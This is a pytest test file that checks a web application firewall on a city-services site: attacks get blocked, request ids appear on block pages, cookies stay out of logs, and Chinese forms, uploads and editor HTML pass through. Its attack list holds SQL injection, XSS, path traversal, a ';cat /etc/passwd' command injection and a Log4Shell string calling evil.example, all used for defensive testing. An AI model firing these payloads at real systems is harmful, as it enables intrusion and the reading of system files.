"""What the WAF stops, and what it must not."""

import pytest

pytestmark = pytest.mark.servers

ATTACKS = [
    "1' OR '1'='1' -- ",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    ";cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
]
LETTER = (
    "您好：我（身份证号尾号 1234）上周在市民中心办居住证，窗口说“材料不全；缺租房合同”，"
    "可是网上写的是“免提交”。请问：到底要不要交？电话：0999-8612345，谢谢！"
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_stopped_wherever_they_come(city, attack):
    asked = len(city.services.asked)

    answers = [
        city.get("/services/x", params={"q": attack}),
        city.client.post("/services/x", data={"q": attack}),
        city.client.post("/services/x", json={"q": [{"deep": attack}]}),
        city.get("/", params={"q": attack}),
    ]

    assert [answer.status_code for answer in answers] == [403] * 4
    assert len(city.services.asked) == asked


def test_a_blocked_person_can_quote_a_number(city):
    answer = city.get("/search", params={"q": ATTACKS[1]}, headers={"Accept": "text/html"})

    assert "没有通过安全检查" in answer.text
    assert answer.headers["x-request-id"] in answer.text


def test_a_blocked_request_is_on_record_without_what_is_private(city):
    cookie = {"Cookie": "mingtang_session=secret-token"}
    answer = city.get("/services/x", params={"q": ATTACKS[0]}, headers=cookie)

    blocked = city.log_lines("waf.jsonl")
    assert blocked
    assert "secret-token" not in str(blocked)
    assert any(
        "942100" in str(line) for line in blocked if line["transaction"]["response"]["http_code"]
    )
    line = next(
        line
        for line in city.log_lines("access.jsonl")
        if line["request_id"] == answer.headers["x-request-id"]
    )
    assert line["waf"] == "blocked"


@pytest.mark.parametrize("path", ["/services/x", "/search"])
def test_chinese_letters_and_forms_pass(city, path):
    forms = [
        city.client.post("/services/x", data={"text": LETTER, "name": "王秀英"}),
        city.client.post("/services/x", json={"text": LETTER}),
        city.client.post(
            "/services/x",
            data={"text": LETTER},
            files={"f": ("租房合同（扫描件）.pdf", b"%PDF-1.7")},
        ),
        city.get("/services/x", params={"q": "给老人办社保卡，要多久？"}),
    ]

    assert [answer.status_code for answer in forms] == [200] * 4


def test_all_writing_methods_pass(city):
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        answer = city.client.request(method, "/services/api/x", json={"a": 1})
        assert answer.json()["method"] == method


def test_rich_text_of_the_editors_passes(city):
    text = '<p>关于<a href="/x">征求意见</a>的<b onclick="x">通知</b></p><script>1</script>'

    answer = city.client.post("/cms/pages/1/edit/", data={"body": text})

    assert answer.status_code == 200
    assert answer.json()["received"] > 50


def test_an_upload_arrives_whole(city):
    answer = city.client.post(
        "/services/x", files={"f": ("a.jpg", b"\xff\xd8" + b"\xbc" * 1_500_000)}
    )

    assert answer.status_code == 200
    assert answer.json()["received"] > 1_500_000


def test_plain_reads_are_not_inspected(city):
    city.publish("plain.html")
    answer = city.get("/plain.html")

    line = next(
        line
        for line in city.log_lines("access.jsonl")
        if line["request_id"] == answer.headers["x-request-id"]
    )
    assert line["waf"] == ""
